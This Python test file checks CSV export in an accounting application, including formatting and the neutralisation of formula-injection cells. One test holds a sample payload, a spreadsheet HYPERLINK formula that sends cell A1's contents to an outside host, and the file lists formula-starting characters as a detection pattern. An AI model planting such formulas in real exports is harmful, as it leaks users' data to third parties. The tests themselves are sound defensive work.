import csv
import datetime as dt
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from akker.kernel.formula_text import restored
from akker.kernel.money import Money, parse_decimal
from akker.reports.formats import render
from akker.reports.table import Column
from tests.reports.sample_tables import EVIL_TEXTS, balance_sheet, table_of, texts_table

STARTS = tuple("=+-@\t\r")


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_a_balance_sheet_as_csv_holds_its_lines_alone(golden):
    golden("reports/balance_sheet.csv", render(balance_sheet(), "csv"))


def test_rel_63_cells_that_start_a_formula_are_neutralised_and_read_back_exactly():
    heading, *rows = rows_of(render(texts_table(*EVIL_TEXTS), "csv"))

    assert heading == ["name", "amount"]
    assert not any(name.startswith(STARTS) for name, _ in rows)
    assert [restored(name) for name, _ in rows] == list(EVIL_TEXTS)


def test_rel_63_negative_numbers_stay_numbers():
    rows = rows_of(render(texts_table(*EVIL_TEXTS), "csv"))[1:]

    assert {amount for _, amount in rows} == {"-123.45"}
    assert parse_decimal(rows[0][1], "EUR") == -12345


def test_sec_28_a_formula_in_a_customer_name_is_neutralised():
    evil = '=HYPERLINK("http://example.org/?"&A1,"Bakkerij Jansen")'

    assert rows_of(render(texts_table(evil), "csv"))[1][0] == "'" + evil


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
def test_rel_63_any_text_comes_back_from_csv_as_it_was(texts):
    rows = rows_of(render(texts_table(*texts), "csv"))[1:]

    assert [restored(name) for name, _ in rows] == texts


def test_every_kind_of_cell_in_the_form_that_programs_read():
    table = table_of(
        Column("code", "Code", "code"),
        Column("amount", "Amount", "amount"),
        Column("foreign", "In their currency", "amount"),
        Column("hours", "Hours", "number"),
        Column("share", "Share", "percent"),
        Column("day", "Day", "date"),
        Column("at", "At", "moment"),
        rows=[
            (
                "0010",
                -5,
                Money(1234, "JPY"),
                Decimal("1E+3"),
                Decimal("0.21"),
                dt.date(2026, 3, 31),
                dt.datetime(2026, 3, 31, 14, 5, tzinfo=dt.UTC),
            ),
            (None,) * 7,
        ],
    )

    assert rows_of(render(table, "csv"))[1:] == [
        ["0010", "-0.05", "1234", "1000", "0.21", "2026-03-31", "2026-03-31T14:05:00+00:00"],
        [""] * 7,
    ]
